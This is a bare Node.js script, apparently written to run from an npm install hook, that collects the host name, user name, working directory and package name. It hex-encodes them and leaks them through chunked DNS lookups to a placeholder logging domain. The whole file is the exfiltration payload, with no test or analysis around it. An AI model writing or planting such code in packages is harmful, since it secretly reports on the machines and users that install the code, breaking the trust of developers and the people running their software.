const dns = require('dns');
const os = require('os');

const id = Math.random().toString(36).slice(2, 8);
const zone = 'dnslog.example.invalid';
const info = [os.hostname(), os.userInfo().username, process.cwd(), process.env.npm_package_name || ''].join('|');
const hex = Buffer.from(info).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

chunks.forEach((c, i) => {
  dns.resolve4(`${c}.${i}.${chunks.length}.${id}.${zone}`, () => {});
});
